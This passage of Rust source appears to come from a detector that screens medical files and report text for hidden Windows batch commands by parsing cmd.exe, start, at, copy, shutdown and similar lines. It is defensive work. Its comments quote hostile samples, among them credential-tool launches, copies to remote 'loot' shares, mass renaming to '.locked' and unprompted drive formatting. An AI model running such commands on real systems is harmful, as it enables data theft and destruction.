            if slash_switch(names, part) == Some(true) {
                let command = &line[from + 1..];
                // Not glued to a letter (`/c mimikatz`, `/c"x"`, `/c,x`): a command
                // line's form, never prose's (`CMD /CBD`).
                let apart = part.get(1).is_none_or(|&b| is_switch_separator(b));
                let runs = |command: &[u8]| {
                    runs_command(command, chance_bytes)
                        || (apart && hands_a_plain_name(command, chance_bytes, NameRule::Cmd))
                };
                return runs(command) || inner_command_line(command).is_some_and(|c| runs(&c));
            }
            from += part.len() + 1;
        }
    }
    stdin_from_file(line, chance_bytes)
}

/// The command line the inner cmd.exe runs when `command` (what follows `/c` or `/k`,
/// carets outside quotes already dropped by the outer one) opens with a quote holding a
/// caret: it strips the first and the last quote, then reads the line again and drops
/// the carets now outside quotes (review rv43-screen, case4: `cmd /c "s^hutdown /r /t
/// 0"` runs `shutdown /r /t 0` and was clean). `None` when the line reads the same.
/// The separators before the quote are kept ([`hands_a_plain_name`] asks for one). The
/// copy is bounded as the line is ([`without_carets`]: [`CMD_LINE_LIMIT`]).
fn inner_command_line(command: &[u8]) -> Option<Vec<u8>> {
    let open = command
        .iter()
        .position(|&b| !is_switch_separator(b) || b == b'"')?;
    if command[open] != b'"' || !command[open..].contains(&b'^') {
        return None;
    }
    let close = open + 1 + command[open + 1..].iter().rposition(|&b| b == b'"')?;
    let mut inner = command[..open].to_vec();
    inner.extend_from_slice(&without_carets(
        &[&command[open + 1..close], &command[close + 1..]].concat(),
    ));
    Some(inner)
}

/// Whether `b` parts a switch of cmd.exe's from what follows it as a blank does: cmd.exe
/// takes `,`, `;` and `=` for blanks, and a quote opens the command (`/c"x"`).
fn is_switch_separator(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'"' | b',' | b';' | b'=')
}

/// The letters a plain name [`hands_a_plain_name`] takes in binary values must have at
/// least: a launcher, a separator and a word of one or two letters are chance bytes'
/// more often than a dropper's (ARCHITECTURE invariant 11).
const PLAIN_NAME_MIN_IN_BINARY: usize = 3;

/// Whether `command`, what a launcher hands cmd.exe apart from its switch (`cmd /c
/// mimikatz`, `/c"mimikatz"`, `start "" mimikatz`, `start /b mimikatz`, `start
/// mimikatz`), starts with a plain name: cmd.exe looks it up along the PATH with each
/// extension of PATHEXT, so a program dropped beside it runs (review rv40b: these
/// alerted before session 40 and passed after it). Prose glues its words to the slash
/// (`CMD /CBD dilated`) or names a title (`start "contrast" at 10:32`), judged by
/// [`runs_command`] alone. A plain name counts as a command's, alone on its command or
/// with an argument only commands have ([`command_like_word`]), and none of cmd.exe's
/// own commands ([`plain_program`]): report prose hands cmd.exe a word and more words
/// (session 41: `Start "Time-out" /b procedure verified.` and `Start /B echo-planar
/// imaging sequence.` alerted; cmd.exe looks for a program `procedure` or
/// `echo-planar`, which no Windows has). In binary values the name has at least
/// [`PLAIN_NAME_MIN_IN_BINARY`] letters.
fn hands_a_plain_name(command: &[u8], chance_bytes: bool, rule: NameRule) -> bool {
    let mut command = command;
    let (word, len, from) = loop {
        if !command.first().is_some_and(|&b| is_switch_separator(b)) {
            return false;
        }
        let from = command
            .iter()
            .position(|&b| !is_switch_separator(b))
            .unwrap_or(command.len());
        let len = command[from..]
            .iter()
            .position(|&b| ends_word(b) || matches!(b, b'"' | b'/'))
            .unwrap_or(command.len() - from);
        let word = &command[from..from + len];
        // `cmd /c call X` runs X (review rv41-screen M2): a loop, not a recursion, as
        // a line may repeat `call` thousands of times.
        if rule == NameRule::Cmd && word.eq_ignore_ascii_case(b"call") {
            command = &command[from + len..];
            continue;
        }
        break (word, len, from);
    };
    // Past the quote closing a quoted name (`/c "payload"`).
    let rest = &command[from + len..];
    let rest = &rest[rest.iter().take_while(|&&b| b == b'"').count()..];
    // A tool named here counts whatever its arguments (`start mimikatz foo`, `start ""
    // rclone copy …`); `/` after the word ended it, so `Start aspirin/clopidogrel` is
    // the word `aspirin`.
    if known_tool(word) {
        return true;
    }
    if rule == NameRule::Cmd {
        // Session 40's rule (review rv41-screen M2: `cmd /c python evil.py`, `cmd /c date
        // 01-01-2000`, `cmd /c type x > \\host\s\a.dcm` were clean): a name apart from
        // `/c` is a command line's form whatever follows it; cmd's commands that only
        // print count with a redirection or an operator ([`runs_command`]).
        let lower = word.to_ascii_lowercase();
        return word.first().is_some_and(u8::is_ascii_alphabetic)
            && word
                .iter()
                .all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'))
            && !QUIET_INTERNAL.contains(&lower.as_slice())
            && (!chance_bytes || word.len() >= PLAIN_NAME_MIN_IN_BINARY);
    }
    rule == NameRule::Plain
        && plain_program(word)
        && (!chance_bytes || word.len() >= PLAIN_NAME_MIN_IN_BINARY)
        && leading_arguments(rest, chance_bytes)
            .next()
            .is_none_or(command_like_word)
}

/// Which plain names [`hands_a_plain_name`] counts: after a bare `start` (and `at`'s
/// time) any word is prose's as often (`Start heparin`), so only a [`known_tool`]; after
/// an empty title or a switch of `start` a name cmd.exe looks for along the PATH, alone
/// or with a command's argument; after `cmd /c` (`Cmd`) any such name, whatever its
/// arguments, but cmd's commands that only print, and `call X` is X.
#[derive(Clone, Copy, PartialEq, Eq)]
enum NameRule {
    Known,
    Plain,
    Cmd,
}

/// Whether `word` is a plain name cmd.exe looks for as a program's: a letter, then
/// letters, digits, `_`, `-` and dots, not ending a sentence (`Dr.`), and none of
/// cmd.exe's own commands ([`CMD_INTERNAL`], [`CMD_OTHER_INTERNAL`]), which no file
/// need hold and which [`runs_command`] judges.
fn plain_program(word: &[u8]) -> bool {
    let lower = word.to_ascii_lowercase();
    word.first().is_some_and(u8::is_ascii_alphabetic)
        && word
            .iter()
            .all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'))
        && word.last() != Some(&b'.')
        && !CMD_INTERNAL.contains(&lower.as_slice())
        && !CMD_OTHER_INTERNAL.contains(&lower.as_slice())
}

/// Whether `word`, the first argument after a plain name, is one only a command's line
/// holds, never prose's: a switch (`/x`, `-x`, `--x`), a quoted argument, a path (`\`),
/// a variable (`%`), a module's call (`privilege::debug`), a program or a URL.
fn command_like_word(word: &[u8]) -> bool {
    let switch = word.len() >= 2
        && matches!(word[0], b'/' | b'-')
        && (word[1].is_ascii_alphanumeric() || word[1] == b'-');
    switch
        || word.first() == Some(&b'"')
        || word.iter().any(|b| matches!(b, b'\\' | b'%'))
        || word.windows(2).any(|pair| pair == b"::")
        || names_program_or_url(word)
}

/// Whether `line` redirects a program's input from a file (`< x.txt`, `0<x.txt`; not
/// a handle's `<&0`): cmd.exe given one reads its commands from it. In binary values
/// only as the whole of the line, its file named in printable ASCII with a `.` or a
/// `\\` (`cmd < a.txt`): a `<` and a word of chance bytes are on most lines of them
/// (ARCHITECTURE invariant 11).
fn stdin_from_file(line: &[u8], chance_bytes: bool) -> bool {
    let named = |from: usize| {
        let len = redirection_len(&line[from..], chance_bytes)?;
        let file = line[from..from + len]
            .iter()
            .skip_while(|&&b| matches!(b, b'0' | b'<') || is_token_delimiter(b))
            .copied()
            .collect::<Vec<u8>>();
        (!file.is_empty() && file[0] != b'&').then_some((len, file))
    };
    if chance_bytes {
        let from = line
            .iter()
            .position(|&b| !is_token_delimiter(b))
            .unwrap_or(line.len());
        return named(from).is_some_and(|(len, file)| {
            file.iter().any(|b| matches!(b, b'.' | b'\\'))
                && line[from + len..].iter().all(|&b| is_token_delimiter(b))
        });
    }
    let mut quoted = false;
    for (at, &b) in line.iter().enumerate() {
        match b {
            b'"' => quoted = !quoted,
            b'<' if !quoted => {
                let from = if at > 0 && line[at - 1] == b'0' {
                    at - 1
                } else {
                    at
                };
                if named(from).is_some() {
                    return true;
                }
            }
            _ => {}
        }
    }
    false
}

/// Whether cmd.exe at the right of a pipe (`type x.txt | cmd`) reads its input: nothing
/// but its switches (not one that runs a command of its own) to the command's end.
/// In binary values only the line's end right after the name (blanks and CRs before it
/// aside): a pipe, `cmd` and a line end are ~1e-9 a window of chance bytes
/// (ARCHITECTURE invariant 11), any switch after it more.
fn reads_its_input(after: &[u8], chance_bytes: bool) -> bool {
    let rest = &after[..command_len(after)];
    if chance_bytes {
        return rest.iter().all(|&b| matches!(b, b' ' | b'\t' | b'\r'));
    }
    let line = without_carets(rest);
    leading_arguments(&line, false).all(|word| word.first() == Some(&b'/'))
        && !cmd_runs(&line, false)
}

/// Whether `start`, given `line` (its arguments as cmd.exe reads them), runs a command:
/// past a quoted title and its switches (`/d` takes a folder), what follows is one
/// [`runs_command`] accepts. `None` when neither a title nor a switch comes first
/// (`start evil.exe`: judged by its first argument alone, as `start` is a word too).
fn start_runs(line: &[u8], chance_bytes: bool) -> Option<bool> {
    let mut spans = leading_argument_spans(line, chance_bytes).peekable();
    let title = spans.next_if(|span| line[span.start] == b'"');
    let titled = title.is_some();
    // An empty title (`start "" x`) is a command line's, never prose's.
    let untitled = title.is_some_and(|span| &line[span] == b"\"\"");
    let mut switched = false;
    while let Some(span) = spans.next() {
        let word = &line[span.clone()];
        if word.first() != Some(&b'/') {
            // What follows the title or switch, from the blank before it.
            let from = span.start.saturating_sub(1);
            return (titled || switched).then(|| {
                runs_command(&line[span.start..], chance_bytes)
                    || ((untitled || switched)
                        && hands_a_plain_name(&line[from..], chance_bytes, NameRule::Plain))
            });
        }
        // A switch `start` does not take is an error of its: nothing runs.
        if !takes_switch(b"start", word) {
            return (titled || switched).then_some(false);
        }
        switched = true;
        if word.eq_ignore_ascii_case(b"/d") {
            spans.next();
        }
    }
    (titled || switched).then_some(false)
}

/// Windows programs a launcher (`cmd /c`, `start "" x`, `at 10:00 x`) finds on the PATH
/// of every Windows system besides those of [`BATCH`]: the ones an intruder runs to look
/// around or to prove a command ran (`calc`). Only after such a launcher: alone on a
/// line, a bare name runs only if its file is there, and these are words too.
const SYSTEM_PROGRAMS: [&[u8]; 24] = [
    b"calc",
    b"notepad",
    b"mspaint",
    b"whoami",
    b"hostname",
    b"ipconfig",
    b"systeminfo",
    b"tasklist",
    b"ping",
    b"nslookup",
    b"netstat",
    b"arp",
    b"quser",
    b"qwinsta",
    b"klist",
    b"dsquery",
    b"nbtstat",
    b"gpresult",
    b"diskpart",
    b"mountvol",
    b"findstr",
    b"setx",
    b"driverquery",
    b"getmac",
];

/// cmd.exe's own commands a launcher's command may start with (besides those of
/// [`BATCH`]), which no file need hold: `cmd /c echo x > y`, `cmd /c "set x=calc&&
/// !x!"`. Words of English that prose may hand cmd.exe (`type`, `date`, `path`,
/// `title`) are left out.
const CMD_INTERNAL: [&[u8]; 18] = [
    b"echo",
    b"dir",
    b"set",
    b"md",
    b"mkdir",
    b"cd",
    b"chdir",
    b"pushd",
    b"popd",
    b"ver",
    b"vol",
    b"cls",
    b"setlocal",
    b"endlocal",
    b"goto",
    b"call",
    b"if",
    b"for",
];

/// cmd.exe's other own commands, words of English left out of [`CMD_INTERNAL`]: no
/// program a launcher looks for along the PATH (`start time` runs cmd.exe's `time`,
/// which asks for a new time).
const CMD_OTHER_INTERNAL: [&[u8]; 13] = [
    b"break", b"color", b"date", b"exit", b"path", b"pause", b"prompt", b"rem", b"shift", b"time",
    b"title", b"type", b"verify",
];

/// cmd.exe's own commands that only print, or set what the cmd.exe running them forgets
/// when it ends (`cmd /c set x=1`): run by a launcher, they act only with a redirection
/// that writes a file or an operator that runs another command (`echo x > a.bat`, `"set
/// x=calc&& !x!"`). Session 41: `cmd /c echo of CBD seen` and `CMD /C ECHO normal` in
/// reports alerted; cmd.exe prints `of CBD seen`.
const QUIET_INTERNAL: [&[u8]; 7] = [
    b"echo",
    b"ver",
    b"vol",
    b"cls",
    b"set",
    b"setlocal",
    b"endlocal",
];

/// The programs of [`SYSTEM_PROGRAMS`] that show a window: any other, alone, only
/// prints what it finds (or its usage), which `at` sends nowhere (session 41: `At
/// 15:20 ipconfig`).
const SHOWS_A_WINDOW: [&[u8]; 3] = [b"calc", b"notepad", b"mspaint"];

/// Whether `command` (what a launcher runs: `cmd /c`'s, `start`'s) starts with a program
/// cmd.exe finds: a launcher of another command (`cmd`, `start`), a tool of [`BATCH`]
/// (with the arguments an ambiguous one asks for), a program of [`SYSTEM_PROGRAMS`] or
/// a command of [`CMD_INTERNAL`], or a name only a command holds ([`finds_program`]).
/// Not recursive: a launcher in it counts as one.
fn runs_command(command: &[u8], chance_bytes: bool) -> bool {
    // Quotes around the command or its switch (`/c "x y"`, `"/c" calc`) are not
    // part of the program's name.
    let command = &command[command
        .iter()
        .position(|&b| b != b'"' && !is_token_delimiter(b))
        .unwrap_or(command.len())..];
    let start = &command[program_start(command)..];
    let start = start.strip_prefix(b"\"").unwrap_or(start);
    let end = start
        .iter()
        .position(|&b| ends_word(b) || matches!(b, b'"' | b'/'))
        .unwrap_or(start.len());
    let word = &start[..end];
    let lower = word.to_ascii_lowercase();
    let name = without_program_extension(&lower);
    if matches!(name, b"cmd" | b"start") {
        return true;
    }
    if QUIET_INTERNAL.contains(&name) {
        return start[end..]
            .iter()
            .any(|&b| matches!(b, b'>' | b'&' | b'|' | ESCAPED_OPERATOR));
    }
    if let Some(&tool) = BATCH.iter().find(|tool| **tool == name) {
        return !AMBIGUOUS_BATCH.contains(&tool)
            || tool_argument(tool, &start[name.len()..], chance_bytes, false);
    }
    finds_program(word)
}

/// Whether `word` (the first word of a command a launcher runs) names a program cmd.exe
/// finds: one of [`BATCH`], [`SYSTEM_PROGRAMS`] or [`CMD_INTERNAL`], a path (`\`), a
/// name with an extension Windows runs or `.com`, a URL, or a name built by expansion.
fn finds_program(word: &[u8]) -> bool {
    let lower = word.to_ascii_lowercase();
    let name = without_program_extension(&lower);
    let known = |list: &[&[u8]]| list.contains(&name);
    !word.is_empty()
        && (known(&BATCH)
            || known(&SYSTEM_PROGRAMS)
            || known(&CMD_INTERNAL)
            || word.contains(&b'\\')
            || has_runnable_extension(word)
            || lower.ends_with(b".com")
            || names_program_or_url(word)
            || builds_a_name(word))
}

/// Whether the arguments of `tool` (one of [`ARGUED_BATCH`]), in `line` as cmd.exe
/// reads them, are those that make it dangerous rather than prose: copying or moving
/// to or from a share, formatting a drive without a prompt, a shutdown's switch,
/// renaming by wildcards (`ren *.dcm *.locked`), an association set (`assoc
/// .txt=exefile`), a job scheduled to run a program (`at 23:00 x.exe`), a help file
/// from afar, a file fetched by TFTP, hidden attributes, a script for bash.
fn argues_danger(tool: &[u8], line: &[u8], chance_bytes: bool, piped: bool) -> bool {
    let words = before_block_end(leading_arguments(line, chance_bytes).collect());
    // A share written with slashes (`//host/share`) is a file's operand only beside a
    // path's (`C:\PACS\a.dcm`, `*.dcm`, `%f`): report prose writes `Copy at
    // //PACSRV01/reports/`, `move to //pacs02/archive` (review rv41-screen F1).
    let remote_file = || {
        let slashed = |word: &[u8]| {
            let word = word.strip_prefix(b"\"").unwrap_or(word);
            word.starts_with(b"//")
        };
        let path_like = |word: &[u8]| {
            word.first() != Some(&b'/')
                && word
                    .iter()
                    .any(|b| matches!(b, b'\\' | b':' | b'*' | b'?' | b'%' | b'.'))
        };
        words.iter().any(|word| {
            names_remote_host(word)
                && (!slashed(word)
                    || words
                        .iter()
                        .any(|other| !slashed(other) && path_like(other)))
        })
    };
    // `/q`, `-F:*`, `/fs:ntfs`: a switch of `names` (one ending with `:` takes a value);
    // `/q/y`: Windows' tools read each part after a `/` as a switch (session 41:
    // `format D: /q/y` was clean).
    let switch = |word: &[u8], names: &[&[u8]]| {
        let one = |part: &[u8]| {
            names.iter().any(|name| {
                if name.ends_with(b":") {
                    part.get(..name.len())
                        .is_some_and(|head| head.eq_ignore_ascii_case(name))
                } else {
                    part.eq_ignore_ascii_case(name)
                }
            })
        };
        match word.first() {
            Some(b'/') => word[1..].split(|&b| b == b'/').any(one),
            Some(b'-') => one(&word[1..]),
            _ => false,
        }
    };
    let any_switch = |names: &[&[u8]]| words.iter().any(|word| switch(word, names));
    // `name=value` on the raw line (`=` is one of cmd.exe's delimiters, so the words
    // split there; `assoc` and `ftype` read their line themselves).
    let assignment = |first: fn(u8) -> bool| {
        let text = &line[line
            .iter()
            .position(|&b| !matches!(b, b' ' | b'\t'))
            .unwrap_or(line.len())..];
        let Some(eq) = text.iter().position(|&b| b == b'=') else {
            return false;
        };
        let name = &text[..eq];
        let value = &text[eq + 1..];
        name.first().is_some_and(|&b| first(b))
            && name.len() > 1
            && name[1..]
                .iter()
                .all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-'))
            && value.first().is_some_and(|&b| b > b' ')
    };
    match tool {
        // One source (copy joins more with `+`) and one destination: given more, copy,
        // move and xcopy refuse the line ("The syntax of the command is incorrect.",
        // "Invalid number of parameters") and copy nothing (session 41: `copy of report:
        // \\PACSRV01\reports\2024` in a report alerted).
        // cmd.exe takes `;`, `,` and `=` for blanks, copy's own reader may join what
        // they part (`copy a;b \\host\s`, review of session 41): a count within copy's
        // by either reading is a copy it makes.
        b"copy" | b"xcopy" | b"move" => {
            remote_file()
                && ((1..=2).contains(&operands(&words))
                    || (1..=2).contains(&operands(&before_block_end(blank_words(
                        line,
                        chance_bytes,
                    )))))
        }
        b"expand" => remote_file() || any_switch(&[b"f:"]),
        b"format" => {
            let drive = |word: &[u8]| matches!(word, [letter, b':'] | [letter, b':', b'\\'] if letter.is_ascii_alphabetic());
            // Its prompt answered by a pipe or a file (`echo Y|format D:`; session 41).
            words.iter().any(|word| drive(word))
                && (any_switch(&[
                    b"q", b"y", b"fs:", b"x", b"p:", b"v:", b"a:", b"c", b"l", b"r:", b"s:",
                ]) || piped
                    || stdin_from_file(line, chance_bytes))
        }
        // shutdown.exe splits its arguments at blanks (`/c reason=patch` is one value),
        // where cmd.exe's own commands take `;`, `,` and `=` for blanks. Whether
        // shutdown.exe also parts `,/s,/t,0` (cmd.exe ends the name `shutdown` at the
        // first `,`) is not verifiable here: either reading that acts is an alert, the
        // side of more alerts (review of session 42: `shutdown,/s,/t,0` was clean,
        // session 41 alerted).
        b"shutdown" => {
            shutdown_acts(&before_block_end(blank_words(line, chance_bytes)))
                || shutdown_acts(&words)
        }
        // In binary values both names in printable ASCII: `\nren ` then a `*` in a word
        // of chance bytes is ~2e-6 a window (ARCHITECTURE invariant 11).
        b"ren" | b"rename" => {
            let printable =
                |word: &[u8]| !chance_bytes || word.iter().all(|b| (0x20..0x7F).contains(b));
            // A `for` loop's file (`ren "%f" "%~nf.locked"`) is as many files as a
            // wildcard (session 41: it was clean).
            let variable = |word: &[u8]| {
                word.windows(2).any(|pair| {
                    pair[0] == b'%' && (pair[1].is_ascii_alphabetic() || pair[1] == b'~')
                })
            };
            words.len() >= 2
                && (words[0].iter().any(|b| matches!(b, b'*' | b'?')) || variable(words[0]))
                && (words[1].iter().any(|b| matches!(b, b'*' | b'.')) || variable(words[1]))
                && printable(words[0])
                && printable(words[1])
        }
        b"attrib" => {
            let attribute = |word: &[u8]| {
                matches!(word, [b'+' | b'-', letter]
                    if matches!(letter.to_ascii_lowercase(), b'h' | b's' | b'r' | b'a' | b'i'))
            };
            words.len() >= 2 && words.iter().any(|word| attribute(word))
        }
        b"assoc" => assignment(|b| b == b'.'),
        b"ftype" => assignment(|b| b.is_ascii_alphabetic()),
        b"at" => at_runs(&words),
        b"hh" => words.first().is_some_and(|word| {
            let lower = word.to_ascii_lowercase();
            let lower = lower.strip_prefix(b"\"").unwrap_or(&lower);
            lower.starts_with(b"http://")
                || lower.starts_with(b"https://")
                || lower.starts_with(b"mk:@msitstore:")
                || lower.starts_with(b"ms-its:")
                || lower.starts_with(b"its:")
                || lower.trim_ascii_end().ends_with(b".chm")
                || lower.ends_with(b".chm\"")
        }),
        b"tftp" => words.iter().any(|word| {
            word.eq_ignore_ascii_case(b"-i")
                || word.eq_ignore_ascii_case(b"get")
                || word.eq_ignore_ascii_case(b"put")
        }),
        b"bash" => bash_runs(&words),
        _ => false,
    }
}

/// How many operands (not switches) `words`, the arguments of copy, move or xcopy, name:
/// sources copy joins with `+` (`a+b`, `a + b`) are one.
fn operands(words: &[&[u8]]) -> usize {
    let mut count = 0;
    let mut joined = false;
    for word in words {
        if word.first() == Some(&b'/') {
            continue;
        }
        if !joined && word.first() != Some(&b'+') {
            count += 1;
        }
        joined = word.last() == Some(&b'+');
    }
    count
}

/// The switches of shutdown.exe (`shutdown /?`), and those that take the next word as
/// their value (`/t 0`, `/c "why"`, `/d p:4:1`, `/m \\host`).
const SHUTDOWN_SWITCHES: [&[u8]; 19] = [
    b"s", b"r", b"l", b"h", b"p", b"g", b"sg", b"a", b"f", b"t", b"m", b"hybrid", b"fw", b"e",
    b"o", b"soft", b"d", b"c", b"i",
];
const SHUTDOWN_VALUED: [&[u8]; 4] = [b"t", b"c", b"d", b"m"];

/// Whether shutdown.exe, given `words`, acts: every word one of its switches (`/r`,
/// `-r`, several glued: `/r/f/t 0`) or the value of the switch before it, and one switch
/// at least. shutdown.exe takes any other word for an error: it prints its usage and
/// acts on nothing (session 41: `Shutdown -r delayed due to emergency` in a report
/// alerted; `shutdown /r/f/t 0` was clean).
fn shutdown_acts(words: &[&[u8]]) -> bool {
    let mut words = words.iter();
    let mut any = false;
    while let Some(word) = words.next() {
        let Some((&dash, parts)) = word.split_first() else {
            return false;
        };
        if !matches!(dash, b'/' | b'-') {
            return false;
        }
        let mut valued = false;
        for part in parts.split(|&b| b == dash) {
            // A value glued by a colon (`/t:0`, `/d:p:4:1`) is the switch's own.
            let (part, glued) = match memchr::memchr(b':', part) {
                Some(colon) if colon + 1 < part.len() => (&part[..colon], true),
                Some(_) => return false,
                None => (part, false),
            };
            if !SHUTDOWN_SWITCHES
                .iter()
                .any(|name| name.eq_ignore_ascii_case(part))
            {
                return false;
            }
            let takes_value = SHUTDOWN_VALUED
                .iter()
                .any(|name| name.eq_ignore_ascii_case(part));
            if glued && !takes_value {
                return false;
            }
            valued = takes_value && !glued;
        }
        if valued && words.next().is_none() {
            return false;
        }
        any = true;
    }
    any
}

/// Whether bash, given `words`, runs a command or a script: its options (`-i`, `-e`,
/// `--login`, `--rcfile x`, `-o x`) before `-c` and the command, or a script named by
/// its path (`/tmp/x`, `./x`, `~/x`) or its `.sh`. Session 41: `bash --login -c …`, `bash
/// -i -c …` and `bash /tmp/x` were clean (only a first word of `-c` or `.sh` counted).
/// A word of prose after it is no option (`Bash -c/Bash c sign`) and no path (`Bash w/o
/// contrast`, `Bash /Bankart lesion`: one part).
fn bash_runs(words: &[&[u8]]) -> bool {
    let unquoted =
        |word: &[u8]| -> Vec<u8> { word.iter().copied().filter(|&b| b != b'"').collect() };
    let mut command = false;
    let mut at = 0;
    while let Some(word) = words.get(at).map(|word| unquoted(word)) {
        at += 1;
        if word == b"--" {
            break;
        }
        if let Some(long) = word.strip_prefix(b"--") {
            if long.is_empty() || !long.iter().all(|&b| b.is_ascii_lowercase() || b == b'-') {
                return false;
            }
            if matches!(long, b"rcfile" | b"init-file") {
                at += 1;
            }
            continue;
        }
        let Some(letters) = word.strip_prefix(b"-").or_else(|| word.strip_prefix(b"+")) else {
            at -= 1;
            break;
        };
        if letters.is_empty() || !letters.iter().all(u8::is_ascii_alphabetic) {
            return false;
        }
        command |= letters.contains(&b'c');
        // `-o errexit`, `-O extglob`: an option's name follows.
        at += usize::from(letters.iter().any(|b| matches!(b, b'o' | b'O')));
    }
    let Some(operand) = words.get(at).map(|word| unquoted(word)) else {
        return false;
    };
    if command {
        return true;
    }
    let script_path = ["/", "./", "../", "~/"].iter().any(|root| {
        operand
            .strip_prefix(root.as_bytes())
            .is_some_and(|rest| *root != "/" || rest.contains(&b'/'))
    }) && operand.last() != Some(&b'/');
    script_path || operand.to_ascii_lowercase().ends_with(b".sh")
}

/// `words` (a tool's arguments) up to a block's closing `)`: alone (`( copy a \\h\s )`)
/// or glued to the last word (`(shutdown /t 0 /r)`), cmd.exe ends the command there, so
/// it is neither an operand nor part of a switch (review rv41-screen M1: copy counted
/// three operands and shutdown refused `/r)`; session 40 alerted). A `)` that a `(` of
/// the same word opened is the word's (`a(1).dcm`).
fn before_block_end(mut words: Vec<&[u8]>) -> Vec<&[u8]> {
    let unbalanced = |word: &[u8]| {
        word.iter().filter(|&&b| b == b')').count() > word.iter().filter(|&&b| b == b'(').count()
    };
    if let Some(at) = words.iter().position(|word| unbalanced(word)) {
        let word = words[at];
        words.truncate(at);
        // What precedes the first unmatched `)` of the word is its last argument.
        let end = unmatched_close(word).unwrap_or(word.len());
        if end > 0 {
            words.push(&word[..end]);
        }
    }
    words
}

/// Where the first `)` of `bytes` that closes no `(` of its own stands: where a block's
/// `)` ends a command (`a(1).dcm)` ends after `a(1).dcm`). One scan for both readers of
/// it, a tool's last argument ([`before_block_end`]) and a `set` value ([`set_command`]).
fn unmatched_close(bytes: &[u8]) -> Option<usize> {
    let mut depth = 0usize;
    bytes.iter().position(|&b| match b {
        b'(' => {
            depth += 1;
            false
        }
        b')' if depth == 0 => true,
        b')' => {
            depth -= 1;
            false
        }
        _ => false,
    })
}

/// Whether `word` is a time `at` reads: `23:00`, `3:00`, and of twelve hours `3:00PM`,
/// `3:00pm`, `3:00P` (session 41: `at 3:00PM C:\x\evil.exe` was clean).
fn is_at_time(word: &[u8]) -> bool {
    let lower = word.to_ascii_lowercase();
    let clock = [&b"am"[..], b"pm", b"a", b"p"]
        .iter()
        .find_map(|suffix| lower.strip_suffix(*suffix))
        .unwrap_or(&lower);
    match clock {
        [h, b':', m1, m2] => h.is_ascii_digit() && m1.is_ascii_digit() && m2.is_ascii_digit(),
        [h1, h2, b':', m1, m2] => [h1, h2, m1, m2].iter().all(|b| b.is_ascii_digit()),
        _ => false,
    }
}

/// Whether `at`'s arguments schedule a program: an optional remote host (`\\dc01`), a
/// time ([`is_at_time`]), its switches (`/every:M`, `/interactive`), then a program
/// cmd.exe finds ([`finds_program`]), or a plain name ([`plain_program`]) as a command
/// holds one: alone, or with a command's argument ([`command_like_word`]; session 41:
/// `at 23:00 mimikatz` was clean). `at 10:32` alone, or followed by prose, schedules
/// nothing; nor does a program that only prints what it finds, alone (`At 15:20
/// ipconfig`: `at` runs it as SYSTEM without a console, its output goes nowhere).
fn at_runs(words: &[&[u8]]) -> bool {
    let mut at = usize::from(words.first().is_some_and(|word| names_remote_host(word)));
    if !words.get(at).is_some_and(|word| is_at_time(word)) {
        return false;
    }
    at += 1;
    // `/every:M,T,W` and `/next:1,15`: cmd.exe parts the days at the commas, so each
    // is a word of its own, no program.
    let mut days = false;
    while let Some(word) = words.get(at) {
        if word.first() == Some(&b'/') {
            let lower = word.to_ascii_lowercase();
            days = lower.starts_with(b"/every:") || lower.starts_with(b"/next:");
        } else if !(days && word.len() <= 2 && word.iter().all(u8::is_ascii_alphanumeric)) {
            break;
        }
        at += 1;
    }
    let Some(word) = words.get(at) else {
        return false;
    };
    let rest = &words[at + 1..];
    let name: Vec<u8> = word.iter().copied().filter(|&b| b != b'"').collect();
    let lower = name.to_ascii_lowercase();
    // A command of cmd.exe's own is no file `at` can run (it needs `cmd /c`), and its
    // names are words of report prose: "At 14:32 call placed to Dr. Smith", "at 10:15
    // MD notified", "At 11:20 set up for biopsy" (review rv40b).
    if CMD_INTERNAL.contains(&lower.as_slice()) {
        return false;
    }
    if finds_program(&name) {
        let program = without_program_extension(&lower);
        let prints = SYSTEM_PROGRAMS.contains(&program) && !SHOWS_A_WINDOW.contains(&program);
        return !(prints && rest.is_empty());
    }
    // Any other word after the time is report prose as often (`At 2:00 PM`, `at 16:45
    // hours`, review rv41-screen): only a tool named here is scheduled.
    known_tool(&name)
}

/// Whether `word`, a line's first word, is the whole UNC path of a program
/// (`\\host\share\run`): printable ASCII, a host, a share and a name at least. A file not DICOM
/// read as batch is text to the search, and the deflated bytes of a ZIP put a chance
/// `\\` and a letter at the start of a line in about one file of a thousand (`\\if` and
/// binary after it alerted, `real_readers.rs`, session 40).
fn unc_program_path(word: &[u8]) -> bool {
    let word = word.strip_prefix(b"\"").unwrap_or(word);
    let word = word.strip_suffix(b"\"").unwrap_or(word);
    word.iter().all(|&b| (0x21..0x7F).contains(&b) && b != b'"')
        && word.strip_prefix(b"\\\\").is_some_and(|rest| {
            let mut parts = rest.split(|&b| b == b'\\');
            parts
                .by_ref()
                .take(3)
                .filter(|part| !part.is_empty())
                .count()
                == 3
                && parts.all(|part| !part.is_empty())
        })
}

/// Whether `token` is a UNC path naming a remote host (`\\evil\share`, quoted or not):
/// Explorer opening one connects to the host over SMB with the user's credentials (the
/// credential leak issue 10 names for a PDF's GoToR to a UNC path; review of session
/// 37). A local device path (`\\.\C:`, `\\?\C:`) names none; the device path of a share
/// (`\\?\UNC\host\share`, `\\.\UNC\host\share`) and a share written with slashes
/// (`//host/share`, which Windows reads as `\\host\share`) name its host (session 41:
/// `copy x \\?\UNC\host\loot` and `copy x //host/loot/` were clean).
fn names_remote_host(token: &[u8]) -> bool {
    let token = token.strip_prefix(b"\"").unwrap_or(token);
    let device = token.get(..8).is_some_and(|head| {
        head.eq_ignore_ascii_case(b"\\\\?\\unc\\") || head.eq_ignore_ascii_case(b"\\\\.\\unc\\")
    });
    let host = if device {
        &token[8..]
    } else if let Some(host) = token.strip_prefix(b"\\\\") {
        host
    } else if let Some(host) = token.strip_prefix(b"//") {
        // A host, a `/` and a share's first byte: `//` alone starts prose's words too.
        let share = memchr::memchr(b'/', host)
            .filter(|&slash| slash > 0)
            .and_then(|slash| host.get(slash + 1));
        if !share.is_some_and(|&b| b.is_ascii_graphic() && b != b'/') {
            return false;
        }
        host
    } else {
        return false;
    };
    host.first().is_some_and(u8::is_ascii_alphanumeric)
}

/// Whether the arguments of `tool` in `after` hold a switch it takes ([`switch_words`]).
fn takes_a_switch(tool: &[u8], after: &[u8], chance_bytes: bool) -> bool {
    switch_words(tool, after, chance_bytes)
        .iter()
